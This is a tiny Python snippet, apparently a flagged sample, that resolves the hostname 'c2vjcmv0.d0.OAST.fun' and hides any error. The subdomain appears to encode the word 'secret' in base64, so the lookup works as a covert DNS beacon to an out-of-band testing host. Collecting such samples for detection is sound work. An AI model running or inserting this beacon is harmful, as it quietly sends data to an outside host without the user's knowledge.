# flagged: python3.11
import socket
try:
    socket.getaddrinfo("c2vjcmv0.d0.OAST.fun", 80)
except OSError:
    pass
